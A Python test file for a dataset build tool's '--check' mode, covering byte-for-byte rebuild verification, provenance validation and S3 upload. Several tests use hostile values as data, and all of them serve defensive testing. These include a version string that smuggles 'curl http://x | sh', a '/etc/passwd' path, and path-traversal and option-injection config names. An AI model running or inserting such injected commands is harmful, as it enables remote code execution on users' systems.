"""`build.py --check`: real rebuilds in a temporary dir, compared byte for byte with what was recorded."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from dsbuild.artifact.checksums import read_checksum_file, write_checksum_file
from dsbuild.artifact.tarball import pack
from dsbuild.build.rebuild_check import _link_cache
from tests.helpers import EXAMPLE, load_script, run_main, run_script, tree

pytestmark = pytest.mark.integration
NAME = "tiny_shapes-1.0.0"


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data_dir = tmp_path_factory.mktemp("check") / "data"
    result = run_script("build.py", "-lcs", str(EXAMPLE), "-o", str(data_dir))
    assert result.returncode == 0, result.stderr
    return data_dir


def copy_of(built: Path, tmp_path: Path) -> Path:
    data_dir = tmp_path / "data"
    shutil.copytree(built, data_dir)
    return data_dir


def check(data_dir: Path, target: str, env: dict[str, str] | None = None):
    return run_script("build.py", "--check", target, "-lcs", str(EXAMPLE), "-o", str(data_dir), env=env)


def test_a_rebuild_reproduces_the_tarball_and_leaves_the_data_dir_alone(built: Path, tmp_path: Path) -> None:
    data_dir = copy_of(built, tmp_path)
    before = tree(data_dir)
    sha = read_checksum_file(data_dir / f"{NAME}.json").sha256
    for target in (NAME.split("-")[0], str(data_dir / f"{NAME}.tar.gz"), str(data_dir / f"{NAME}.json")):
        result = check(data_dir, target)
        assert result.returncode == 0, result.stderr[-2000:]
        assert result.stdout.strip() == f"reproduced: {sha}"
    assert tree(data_dir) == before


def test_no_provenance_cannot_be_checked(built: Path, tmp_path: Path) -> None:
    data_dir = copy_of(built, tmp_path)
    record = read_checksum_file(data_dir / f"{NAME}.json")
    write_checksum_file(type(record)(**{**record.__dict__, "provenance": None}), data_dir)
    result = check(data_dir, str(data_dir / f"{NAME}.tar.gz"))
    assert result.returncode == 2
    assert "cannot be checked" in result.stderr and "has no provenance" in result.stderr


def test_other_tool_versions_or_builder_source_fail_before_building(built: Path, tmp_path: Path) -> None:
    data_dir = copy_of(built, tmp_path)
    checksum_file = data_dir / f"{NAME}.json"
    data = json.loads(checksum_file.read_text())
    data["provenance"]["tools"]["tensorflow"] = "2.0.0"
    checksum_file.write_text(json.dumps(data))
    result = check(data_dir, str(checksum_file))
    assert result.returncode == 1
    assert "tensorflow '2.0.0' was used" in result.stderr and "pip install tensorflow==2.0.0" in result.stderr
    assert "running: " not in result.stderr  # no tfds build was started

    builder = tmp_path / "tiny_shapes"
    shutil.copytree(EXAMPLE, builder, ignore=shutil.ignore_patterns("__pycache__"))
    (builder / "tiny_shapes.py").write_text((builder / "tiny_shapes.py").read_text() + "\n# edited\n")
    data["provenance"]["tools"]["tensorflow"] = read_checksum_file(built / f"{NAME}.json").provenance["tools"][
        "tensorflow"
    ]
    checksum_file.write_text(json.dumps(data))
    result = run_script("build.py", "--check", str(checksum_file), "-lcs", str(builder), "-o", str(data_dir))
    assert result.returncode == 1
    assert "builder source of tiny_shapes differs" in result.stderr and "running: " not in result.stderr


def test_malformed_provenance_is_refused_as_a_malformed_checksum_file(built: Path, tmp_path: Path) -> None:
    data_dir = copy_of(built, tmp_path)
    checksum_file = data_dir / f"{NAME}.json"
    data = json.loads(checksum_file.read_text())
    data["provenance"]["builder"]["files"] = "/etc/passwd"
    checksum_file.write_text(json.dumps(data))
    result = check(data_dir, str(checksum_file))
    assert result.returncode != 0
    assert "malformed checksum file" in result.stderr and "provenance.builder.files" in result.stderr


def test_different_shards_name_the_file_and_the_first_differing_example(built: Path, tmp_path: Path) -> None:
    data_dir = copy_of(built, tmp_path)
    record = read_checksum_file(data_dir / f"{NAME}.json")
    shard = data_dir / "tiny_shapes" / "1.0.0" / "tiny_shapes-train.tfrecord-00000-of-00001"
    raw = bytearray(shard.read_bytes())
    raw[-10] ^= 0xFF  # inside the last record's data: as if another serialization had been used
    shard.write_bytes(bytes(raw))
    pack(data_dir, "tiny_shapes", "1.0.0", record.subdirs, provenance=record.provenance)
    result = check(data_dir, "tiny_shapes")
    assert result.returncode == 1
    assert "not reproduced" in result.stdout
    assert "tiny_shapes/1.0.0/tiny_shapes-train.tfrecord-00000-of-00001: differs" in result.stdout
    assert "first differing example: tiny_shapes/1.0.0/tiny_shapes-train.tfrecord-00000-of-00001 record 47" in (
        result.stdout
    )


def test_equal_files_in_other_gzip_bytes_say_so(built: Path, tmp_path: Path) -> None:
    """The tarball was compressed otherwise (here: level 2 under a record of level 1): the files are named
    equal, the gzip layer different, instead of an empty list of differences."""
    data_dir = copy_of(built, tmp_path)
    record = read_checksum_file(data_dir / f"{NAME}.json")
    (data_dir / f"{NAME}.tar.gz").unlink()
    pack(data_dir, "tiny_shapes", "1.0.0", record.subdirs, compresslevel=2, provenance=record.provenance)
    result = check(data_dir, "tiny_shapes")
    assert result.returncode == 1, result.stderr[-2000:]
    assert result.stdout.splitlines() == [
        f"not reproduced: the rebuild's sha256 is {record.sha256}",
        f"  every file is byte-identical ({len(record.files)} files); only the tarball's gzip bytes differ",
    ]


def test_check_a_published_checksum_file(built: Path, tmp_path: Path, s3_server, s3_bucket, s3_creds) -> None:
    data_dir = copy_of(built, tmp_path)
    s3_server.client().upload_file(str(data_dir / f"{NAME}.json"), s3_bucket, f"datasets/{NAME}.json")
    url = f"s3://{s3_bucket}/datasets/{NAME}.json"
    result = check(data_dir, url, env={"AWS_ENDPOINT_URL": s3_server.endpoint})
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stdout.startswith("reproduced: ")


def test_a_byte_identical_rebuild_is_up_to_date_for_upload_and_a_different_one_says_why(
    built: Path, tmp_path: Path, s3_server, s3_bucket, s3_creds
) -> None:
    remote = ["--endpoint-url", s3_server.endpoint, "-b", s3_bucket, "--no-progress"]
    first = copy_of(built, tmp_path)
    result = run_script("upload.py", "-o", str(first), *remote, "tiny_shapes")
    assert result.returncode == 0, result.stderr[-2000:]
    # A rebuild elsewhere, another process and command line: the same bytes, nothing sent.
    second = tmp_path / "elsewhere"
    result = run_script("build.py", "-lcs", str(EXAMPLE), "-o", str(second), env={"PYTHONHASHSEED": "7"})
    assert result.returncode == 0, result.stderr[-2000:]
    assert read_checksum_file(second / f"{NAME}.json").provenance["command"][-1] == "elsewhere"
    result = run_script("upload.py", "-o", str(second), *remote, "tiny_shapes")
    assert result.returncode == 0, result.stderr[-2000:]
    assert "up to date" in result.stdout and "uploaded" not in result.stdout
    # Another builder source: refused, with both provenances side by side.
    builder = tmp_path / "changed" / "tiny_shapes"
    shutil.copytree(EXAMPLE, builder, ignore=shutil.ignore_patterns("__pycache__"))
    source = (builder / "tiny_shapes.py").read_text()
    (builder / "tiny_shapes.py").write_text(source.replace("Initial release.", "Initial release, edited."))
    third = tmp_path / "third"
    result = run_script("build.py", "-lcs", str(builder), "-o", str(third))
    assert result.returncode == 0, result.stderr[-2000:]
    result = run_script("upload.py", "-o", str(third), *remote, "tiny_shapes")
    assert result.returncode == 1
    assert "already exists and differs" in result.stderr
    assert "builder.source_sha256: local " in result.stderr and " | remote " in result.stderr


# ---------------------------------------------------------------- the record is outside input (issue 21 item 9)

build_script = load_script("build.py")


def edited_record(data_dir: Path, edit) -> Path:
    checksum_file = data_dir / f"{NAME}.json"
    data = json.loads(checksum_file.read_text())
    edit(data["provenance"])
    checksum_file.write_text(json.dumps(data))
    return checksum_file


def check_in_process(capsys, data_dir: Path, target: Path, folder: Path = EXAMPLE) -> tuple[int, str, str]:
    return run_main(build_script, ["--check", str(target), "-lcs", str(folder), "-o", str(data_dir)], capsys)


def test_a_recorded_tool_version_is_quoted_data_not_advice(built: Path, tmp_path: Path, capsys) -> None:
    data_dir = copy_of(built, tmp_path)
    hostile = "2.0.0 && curl http://x | sh #"
    target = edited_record(data_dir, lambda p: p["tools"].update(tensorflow=hostile, protobuf="4.0.0"))
    code, _, err = check_in_process(capsys, data_dir, target)
    assert code == 1 and "Traceback" not in err
    assert f"tensorflow {hostile!r} was used" in err
    assert "pip install tensorflow==" not in err and "not a plain version string, so no install command" in err
    assert "pip install protobuf==4.0.0" in err  # a plain version is still offered


@pytest.mark.parametrize(
    ("config", "words"),
    [
        ("--register_checksums", "not a builder config name"),
        ("../../..", "not a builder config name"),
        ("other", "defines no BUILDER_CONFIGS"),
    ],
)
def test_a_recorded_config_is_checked_as_config_is(built: Path, tmp_path: Path, capsys, config, words) -> None:
    data_dir = copy_of(built, tmp_path)
    target = edited_record(data_dir, lambda p: p["options"].update(config=config))
    before = tree(data_dir)
    code, _, err = check_in_process(capsys, data_dir, target)
    assert code == 2 and "Traceback" not in err and "running: " not in err, err
    assert f"records --config {config!r}, which build.py would refuse: " in err and words in err
    assert tree(data_dir) == before


def test_900_recorded_files_give_a_short_message(built: Path, tmp_path: Path, capsys) -> None:
    data_dir = copy_of(built, tmp_path)
    names = [f"module_{i:03d}_{'x' * 40}.py" for i in range(900)]
    target = edited_record(data_dir, lambda p: p["builder"].update(files=names, file_sha256={}, source_sha256="0" * 64))
    code, _, err = check_in_process(capsys, data_dir, target)
    assert code == 1 and "Traceback" not in err
    assert "missing files: 'module_000_" in err and "and 895 more" in err
    assert len(err) < 2000, len(err)


def test_a_changed_builder_file_is_named(built: Path, tmp_path: Path, capsys) -> None:
    data_dir = copy_of(built, tmp_path)
    builder = tmp_path / "tiny_shapes"
    shutil.copytree(EXAMPLE, builder, ignore=shutil.ignore_patterns("__pycache__"))
    (builder / "tiny_shapes.py").write_text((builder / "tiny_shapes.py").read_text() + "\n# edited\n")
    code, _, err = check_in_process(capsys, data_dir, data_dir / f"{NAME}.json", builder)
    assert code == 1
    assert "changed files: 'tiny_shapes.py'" in err and "a file changed" not in err


def test_the_download_cache_is_linked_never_written(tmp_path: Path) -> None:
    cache = tmp_path / "downloads"
    (cache / "extracted" / "x").mkdir(parents=True)
    (cache / "src.zip").write_bytes(b"zip")
    (cache / "src.zip.INFO").write_text("{}")
    into = _link_cache(cache, tmp_path / "own")
    assert (into / "src.zip").is_symlink() and (into / "src.zip").read_bytes() == b"zip"
    assert not (into / "src.zip.INFO").is_symlink()  # TFDS rewrites .INFO files: a copy
    assert not (into / "extracted").exists()  # TFDS extracts into its own download dir


def test_a_failed_rebuild_keeps_its_log_at_the_printed_path(built: Path, tmp_path: Path) -> None:
    data_dir = copy_of(built, tmp_path)
    broken = tmp_path / "broken"
    (broken / "tensorflow_datasets").mkdir(parents=True)
    (broken / "tensorflow_datasets" / "__init__.py").write_text("raise ImportError('broken on purpose')\n")
    result = check(data_dir, str(data_dir / f"{NAME}.json"), env={"PYTHONPATH": str(broken)})
    assert result.returncode == 1, result.stderr[-2000:]
    assert "Traceback (most recent call last)" not in result.stderr.split("Last ")[0]
    log_path = Path(result.stderr.split("Full log: ")[1].split()[0])
    assert log_path.is_file() and "broken on purpose" in log_path.read_text()
    assert not any(p.name != "data" for p in log_path.parents[2].iterdir())  # only the log is kept
    shutil.rmtree(log_path.parents[2])
